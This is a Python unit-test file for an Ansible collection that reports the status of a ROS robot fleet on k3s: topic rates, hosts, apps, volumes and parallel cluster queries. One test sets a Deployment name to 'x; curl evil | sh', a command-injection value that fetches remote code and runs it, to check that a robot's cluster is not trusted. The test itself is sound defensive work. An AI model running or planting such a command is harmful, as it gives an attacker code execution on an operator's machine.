# SPDX-License-Identifier: GPL-3.0-or-later
"""How the fleet stands, out of all that was looked at, and the page of text that shows it."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from functools import partial
from types import SimpleNamespace
from typing import Any

import pytest
from ansible_collections.rosops.fleet.plugins.module_utils._common.errors import KubeError
from ansible_collections.rosops.fleet.plugins.plugin_utils._kube.connection import ApiError
from ansible_collections.rosops.fleet.plugins.plugin_utils._model.keys import plain, read
from ansible_collections.rosops.fleet.plugins.plugin_utils._report import look
from ansible_collections.rosops.fleet.plugins.plugin_utils._report.attention import attention
from ansible_collections.rosops.fleet.plugins.plugin_utils._report.glance import level as level_of
from ansible_collections.rosops.fleet.plugins.plugin_utils._report.page import status_page
from ansible_collections.rosops.fleet.plugins.plugin_utils._report.rows import (
    Ended,
    Host,
    Promise,
    Status,
    Trouble,
    Workload,
)
from ansible_collections.rosops.fleet.plugins.plugin_utils._report.text import status_text
from ansible_collections.rosops.fleet.tests.unit.plugins.plugin_utils._report.a_fleet import (
    SOURCES,
    fleet_status,
    pod,
    workload,
)
from ansible_collections.rosops.fleet.tests.unit.plugins.plugin_utils._report.html_check import Page
from ansible_collections.rosops.fleet.tests.unit.robots import fleet


def test_a_process_of_a_launch_file_that_crashed_stands_beside_its_app() -> None:
    died = {"node": "/lidar", "host": "10.42.0.7", "alive": False, "exit_code": 3, "crash": "ended with exit code 3"}
    sources = {
        "Deployment": [workload("base")],
        "Pod": [pod("base", "robot1")],
        "graphs": {"robot1": {"launched": [died, {**died, "node": "/map", "exit_code": None, "crash": ""}]}},
    }
    status = fleet_status(sources)
    todo = "k3s kubectl -n robot-robot1 logs deploy/base"
    problem = Trouble("app base of robot1", "/lidar ended with exit code 3", todo)
    assert (status.problems, status.ended) == ((problem,), (Ended("robot1", "base", "/map", "10.42.0.7"),))
    text = status_text(status)
    assert text.index("PROBLEMS") == 0 and f"{problem.where} {problem.what}" in " ".join(text.split())
    title, headers, row = text.partition("ENDED")[2].splitlines()[:3]
    assert (title, headers.split()) == (" IN LAUNCH FILES", ["robot", "app", "node", "host"])
    assert row.split() == ["robot1", "base", "/map", "10.42.0.7"]
    assert problem.what in status_page(status, "2026-11-21T09:07:52Z")


def promise(least: float) -> dict[str, Any]:
    return {"/imu": Promise(least, "bringup", "robot1")}


@pytest.mark.parametrize(
    ("rate", "least", "level", "cell"),
    [
        (87.0, 90, "warn", "90 Hz not kept"),
        (17.9, 18, "ok", "18 Hz"),  # which a window of some seconds cannot tell apart, as at an update
        (17.8, 18, "warn", "18 Hz not kept"),
        (90.0, 90, "ok", "90 Hz"),
        (None, 90, "ok", "90 Hz"),  # nobody listens, so nobody counts
    ],
)
def test_rates_are_held_against_what_was_promised(rate: float | None, least: float, level: str, cell: str) -> None:
    topic = {"type": "sensor_msgs/Imu", "publishers": ["/imu"], "subscribers": [], "connections": [], "rate": rate}
    sources = {
        "Deployment": [workload("bringup")],
        "Pod": [pod("bringup", "robot1")],
        "graphs": {"robot1": {"topics": {"/imu": topic, "/free": topic}}},
        "promised": promise(least),
    }
    status = fleet_status(sources)
    free, imu = status.topics
    assert (level_of(free), level_of(imu)) == ("", level)
    assert cell in status_text(status).partition("TOPICS")[2]
    found = [(one.told.where, one.told.what) for one in attention(status)]
    told = ("topic /imu of robot1", f"{rate} Hz; bringup promises at least {least} Hz")
    assert found == ([told] if level == "warn" else [])
    assert ("tr", {"role": "row", "class": "warn"}) not in Page(status_page(status, "")).attributes or level == "warn"


def test_a_promised_topic_that_nobody_publishes() -> None:
    sources: dict[str, Any] = {"graphs": {"robot1": {}}, "promised": promise(90)}
    status = fleet_status({**sources, "Deployment": [workload("bringup")]})
    assert [level_of(row) for row in status.topics] == ["bad"]
    assert [one.told.what for one in attention(status)] == ["nobody publishes it; bringup promises at least 90 Hz"]
    down = fleet_status({**sources, "Deployment": [workload("bringup", ready=0)]})
    assert [(one.told.where, one.takes) for one in attention(down)] == [
        ("app bringup of robot1", ["topic /imu of robot1"])
    ]


def test_nothing_found() -> None:
    assert fleet_status({}) == Status()
    text = status_text(Status())
    assert text.count("  none") == 7 and "HOSTS\n  none\n" in text and "LAST" not in text and "ENDED" not in text


def test_what_is_handed_on_between_the_tasks_is_the_same_afterwards() -> None:
    asked = look.Asked("robot1", "http://10.43.0.1:11311", ("10.42.0.7",), promise(5))
    seen = look.Look(fleet_status(SOURCES), {"robot1": asked}, "demo")
    assert read(look.Look, json.loads(json.dumps(plain(seen)))) == seen


PAGE = """\
HOSTS
  host    group   address    role    cluster  state
  edge1   edge    10.0.0.11  server  edge     up
  robot2  robots  -          agent   edge     offline timed out

NODES
  node    state                version       address    roles          deploymentType  robot   other labels
  edge1   Ready                v1.34.2+k3s1  10.0.0.11  control-plane  remote          -       zone=a
  robot1  NotReady, NoKubelet  v1.34.2+k3s1  10.0.0.11  -              local           robot1  -

ROS MASTERS
  robot   ready  node    restarts  image
  robot1  1/1    robot1  0         lab/apps:1.0

APPS
  robot   app                 placement  ready  node    restarts  image         note
  robot1  stats               remote     0/1    edge1   0         lab/apps:1.0  ImagePullBackOff: image lab/apps:1.0:..
  robot1  temperature-sensor  local      1/1    robot1  2         lab/apps:1.0  -

ROS NODES
  robot   node     on  state                     publishes  subscribes  services
  robot1  /ghost   -   down: connection refused  0          0           0
  robot1  /sensor  -   up                        2          0           1

ROS GRAPHS
  robot   topic         action  from     to
  robot1  /temperature  no      /sensor  /stats

TOPICS
  robot   topic         type             publishers  subscribers  connections  rate    note
  robot1  /idle         std_msgs/String  0           0            0            -       no publisher answers
  robot1  /temperature  demo/Sample      1           1            1            500 Hz  -

CLAIMS
  robot   claim     state  class       size  used
  robot1  logs-pvc  Bound  local-path  1Gi   5.1 MiB
"""


def test_the_page() -> None:
    assert status_text(fleet_status(SOURCES)) == PAGE


# ---- clusters

PATIENT = 60.0
EVERYTHING = [*look.KINDS, "ConfigMap"]


class Cluster:
    """An API by its name: `away` from the start, `half` breaks at the pods."""

    closed: list[str] = []  # noqa: RUF012 - one list for the clusters of a test

    def __init__(self, name: str, before: Callable[[], object] = int) -> None:
        if name == "none":
            raise KubeError("No usable Kubernetes credentials in none")
        self.name, self.before = name, before

    def __enter__(self) -> Cluster:
        return self

    def __exit__(self, *unused: object) -> None:
        self.closed.append(self.name)

    def objects(self, kind: str, namespace: str = "", labels: str = "", fields: str = "") -> list[Any]:
        assert self.name not in self.closed
        self.before()
        if self.name == "away" or (self.name == "half" and kind == "Pod"):
            raise KubeError("connection refused")
        return [f"{namespace}{labels}{fields} of {self.name}"]


@pytest.fixture(autouse=True)
def nothing_closed() -> None:
    Cluster.closed.clear()


def opened(name: str, before: Callable[[], object] = int) -> Any:
    return partial(Cluster, name, before)


def test_everything_that_is_shown_is_asked_for_once() -> None:
    answer = look.ask({"edge": opened("good")}, PATIENT)["edge"]
    maps = ["kube-systemmetadata.name=rosops-outcomes of good", "metadata.name=robot-updates of good"]
    asked = {kind: [f"{labels} of good"] for kind, labels in look.KINDS.items()}
    assert answer == look.Answer({**asked, "ConfigMap": maps})
    assert Cluster.closed == ["good"]


def test_a_cluster_that_does_not_answer_keeps_nobody_from_the_others() -> None:
    given = {"a": "none", "b": "away", "c": "half", "d": "good"}
    answers = look.ask({name: opened(api) for name, api in given.items()}, PATIENT)
    assert {name: one.problem for name, one in answers.items()} == {
        "a": "No usable Kubernetes credentials in none",
        "b": "connection refused",
        "c": "connection refused",
        "d": "",
    }
    assert [list(one.objects) for one in answers.values()] == [[], [], ["Node", "Deployment"], EVERYTHING]
    assert sorted(Cluster.closed) == ["away", "good", "half"]


def test_they_are_asked_side_by_side() -> None:
    meeting = threading.Barrier(3)  # each waits for the others: one after the other this would never end
    meets = opened("good", partial(meeting.wait, PATIENT))
    assert not any(one.problem for one in look.ask(dict.fromkeys("abc", meets), PATIENT).values())


def test_one_that_never_answers_is_given_up() -> None:
    end = threading.Event()
    try:
        answers = look.ask({"a": opened("slow", partial(end.wait, PATIENT)), "b": opened("good")}, 0.2)
    finally:
        end.set()
    assert (answers["a"].objects, answers["a"].problem) == ({}, "no answer within 0 s")
    assert list(answers["b"].objects) == EVERYTHING


class Keepers:
    """An API server behind which these keepers answer, by their namespace."""

    def __init__(self, answers: dict[str, bytes]) -> None:
        self.answers, self.asked = answers, list[Any]()

    def __enter__(self) -> Keepers:
        return self

    def __exit__(self, *_error: object) -> None: ...

    def request(self, _method: str, path: str, query: Any, body: Any, *_rest: Any) -> Any:
        self.asked.append((path.rpartition("/")[2], body))
        if (answer := self.answers.get(query["namespace"])) is None:
            raise ApiError("no endpoints available", 503)
        return SimpleNamespace(read=lambda most: answer[:most])


# ---- hosts

GROUPS = {"edge": ["edge1"], "robots": ["robot1", "robot2", "lone"]}
HOSTVARS: tuple[dict[str, Any], ...] = ({"ansible_host": "10.0.0.11"}, {}, {}, {"robot_mode": "standalone"})
VARIABLES = dict(zip(("edge1", "robot1", "robot2", "lone"), HOSTVARS))
OFF = {"unreachable": True, "msg": "Task failed: timed out"}


def found(
    *names: str, off: tuple[str, ...] = (), every: dict[str, Any] | None = None, **more: dict[str, Any]
) -> list[look.Member]:
    hostvars = {name: {**own, **(every or {}), **more.get(name, {})} for name, own in VARIABLES.items()}
    run = {name: hostvars[name] for name in names or hostvars}
    addresses = {name: str(own.get("ansible_host", name)) for name, own in run.items()}
    return look.members(fleet(GROUPS, hostvars), addresses, dict.fromkeys(off, OFF))


def pods(robot: str, *addresses: str) -> Workload:
    return Workload(robot, "base", addresses=addresses)


def service(namespace: str, address: str, name: str = "ros-master") -> dict[str, Any]:
    return {"metadata": {"name": name, "namespace": namespace}, "spec": {"clusterIP": address}}


def test_rows_of_hosts() -> None:
    edge, robot = (one.row for one in found("edge1", "robot2", off=("robot2",)))
    assert edge == Host("edge1", "edge", "10.0.0.11", "server", "edge")
    assert robot == Host("robot2", "robots", "robot2", "agent", "edge", False, "timed out")


THREE = ("a", "b", "c")
ONE_UP = [look.Member(Host(name, "edge", "", "server", "edge", name == "c"), THREE) for name in THREE]


@pytest.mark.parametrize(
    ("hosts", "asked", "silent"),
    [
        (found(off=("edge1",)), ["lone"], {"edge": "its servers are unreachable"}),
        (found("robot1", "robot2", off=("robot1",)), ["edge"], {}),  # a server outside of the limit may be up
        (ONE_UP, ["edge"], {}),
    ],
)
def test_a_cluster_whose_servers_are_off_is_not_waited_for(
    hosts: list[look.Member], asked: list[str], silent: dict[str, str]
) -> None:
    which, why = look.clusters_of(hosts)
    assert (list(which), why) == (asked, silent)


OWN = {
    "edge": [service("robot-robot1", "10.43.0.1"), service("robot-robot2", "10.43.0.2"), service("fleet", "x")],
    "lone": [service("robot-lone", "10.43.0.1", "other"), service("robot-lone", "10.43.0.3")],
}
OF_ALL = {"edge": [service("fleet", "10.43.0.9")], "lone": [service("fleet", "10.43.0.8")]}
SHARED = {"ros_master_mode": "shared"}
EXTERNAL = {"ros_master_mode": "external", "ros_master_uri": "http://hall:11311"}
THERE = [pods("robot1", "10.42.0.7"), pods("robot2"), pods("(shared)", "10.42.0.9")]
LONE = ("lone", "http://10.43.0.8:11311", ("10.42.0.9",))  # it shares with nobody
EVERYBODYS = ("(shared)", "http://10.43.0.9:11311", ("10.42.0.7", "10.42.0.9"))


@pytest.mark.parametrize(
    ("hosts", "services", "read"),
    [
        (
            found(),
            OWN,
            {
                "robot1": ("robot1", "http://10.43.0.1:11311", ("10.42.0.7", "10.42.0.9")),
                "robot2": ("robot2", "http://10.43.0.2:11311", ("10.42.0.9",)),
                "lone": ("lone", "http://10.43.0.3:11311", ("10.42.0.9",)),
            },
        ),
        (found(off=("robot1",)), {"edge": OWN["edge"][:1]}, {}),  # it is off, and the others have no master
        (found(every=SHARED), OF_ALL, {"robot1": EVERYBODYS, "lone": LONE}),
        (found(every=SHARED, off=("robot1",)), OF_ALL, {"robot2": EVERYBODYS, "lone": LONE}),
        (found(robot2=EXTERNAL), {}, {"robot2": ("robot2", "http://hall:11311", ("10.42.0.9",))}),
    ],
)
def test_who_reads_whose_graph(hosts: list[look.Member], services: Any, read: dict[str, Any]) -> None:
    """A shared master's is read by the first robot that answers."""
    assert look.graphs_to_read(hosts, services, THERE) == {host: look.Asked(*asked) for host, asked in read.items()}


def test_keepers_read_what_they_can_and_the_rest_is_left_for_the_hosts() -> None:
    """Of each robot in its own cluster; a cluster or a keeper that does not answer keeps nobody from the others."""
    hosts = found()
    graphs = {name: look.Asked(name, "http://10.43.0.1:11311", ("10.42.0.7",)) for name in ("robot1", "robot2", "lone")}
    keepers = Keepers({"robot-robot1": b'{"graph": {}}', "robot-lone": b'{"failed": true, "msg": "no master"}'})
    read = look.read_by_keepers(graphs, hosts, dict.fromkeys(("edge", "lone"), lambda: keepers))
    assert read == {"robot1": {"graph": {}}, "lone": {"failed": True, "msg": "no master"}}
    wanted = {"rates": True, "rate_source": "counters", "rate_seconds": 4.0, "launch_hosts": ["10.42.0.7"]}
    assert keepers.asked == [("graph", wanted)] * 3
    assert look.read_by_keepers(graphs, hosts, {"edge": opened("none"), "lone": lambda: keepers}) == {
        "lone": {"failed": True, "msg": "no master"}
    }
    # all hosts of the other cluster are off: it was not opened, and a robot of it may have a master elsewhere
    assert look.read_by_keepers(graphs, hosts, {"edge": lambda: keepers}) == {"robot1": {"graph": {}}}


def test_what_volumes_hold() -> None:
    path = "/var/lib/rancher/k3s/storage/pvc-3f_robot-robot1_logs-pvc"
    said = {
        "robot1": [f"4096\t{path}", "12 /somewhere/else", "du: cannot read", f"{'9' * 5000}\t{path}2"],
        "edge1": ["7\t/k3s/storage/pvc-aa_fleet_maps"],
        "robot2": [f"1\t{path}", "1\t/k3s/storage/pvc-aa_fleet_maps"],  # which are not its own
        "robot3": [],
    }
    results: dict[str, Any] = {host: {"stdout": "\n".join(lines)} for host, lines in said.items()}
    odd = {"robot4": {"stdout": 7, "stdout_lines": 7}, "robot5": {"stdout": [f"1\t{path}3"]}}  # no command's result
    found = look.usage_of({**results, **odd, "off": OFF}, ["robot1", "robot2"])
    assert found == {"robot-robot1/logs-pvc": 4096, "fleet/maps": 7}


def test_a_robots_own_cluster_speaks_for_that_robot_alone() -> None:
    """Whoever is root there says what he wants, and an operator copies commands with names in them."""
    run = {"playbook": "update.yml", "started": "9", "outcome": "updated", "reason": ""}
    told = {host: json.dumps({"host": host, **run}) for host in ("robot1", "robot2")}
    other = {**workload("lidar"), "metadata": {"name": "lidar", "labels": {"rosops.fleet/robot": "robot2"}}}
    command = {**workload("x"), "metadata": {**workload("x")["metadata"], "name": "x; curl evil | sh"}}
    maps = [{"metadata": {"name": look.REF.name, "namespace": look.REF.namespace}, "data": told}]
    found = look.believed(
        look.Answer({"Deployment": [workload("base"), other, command], "ConfigMap": maps}), "robot1", 0.0
    )
    rows = look.held.cluster_rows([found.objects], {}, 0.0)
    assert ([row.name for row in rows.apps], [row.host for row in rows.outcomes]) == (["base"], ["robot1"])


def test_nonsense_of_a_robots_own_cluster_is_a_problem_of_that_cluster() -> None:
    """Whatever it is: test_hostile has more."""
    found = look.believed(look.Answer({"Deployment": [{**workload("base"), "status": 7}]}), "robot1", 0.0)
    assert (found.objects, "makes no sense" in found.problem) == ({}, True)


def test_a_host_whose_volumes_take_too_long_is_a_problem() -> None:
    codes = {"fine": 0, "empty": 1, "slow": 124, "stuck": 137}
    results: dict[str, Any] = {**{host: {"rc": code} for host, code in codes.items()}, "off": OFF}
    assert [problem.where for problem in look.unmeasured(results)] == ["volumes of slow", "volumes of stuck"]


def test_rates_that_apps_promise() -> None:
    topics = [{"name": "odom", "min_rate": 18}, {"name": "~own", "min_rate": 5}, {"name": "/scan", "publishers": 2}]
    app = {"name": "base", "image": "a:1", "command": ["a"], "pattern": "pubsub", "readiness": {"topics": topics}}
    fused = {**app, "name": "fused", "readiness": {"topics": [{"name": "/scan", "min_rate": 10, "publishers": 2}]}}
    hosts = found("robot1", "edge1", robot1={"ros_apps": [app, fused, {**app, "name": "new"}]})
    there = [Workload("robot1", name) for name in ("base", "fused")]  # what the inventory has new promises nothing yet
    told = look.promised_rates(hosts, there)
    assert told == {"/odom": Promise(18, "base", "robot1"), "/scan": Promise(10, "fused", "robot1")}
    services = {"edge": [service("robot-robot1", "10.43.0.1")]}
    assert look.graphs_to_read(hosts, services, there)["robot1"].promised == told
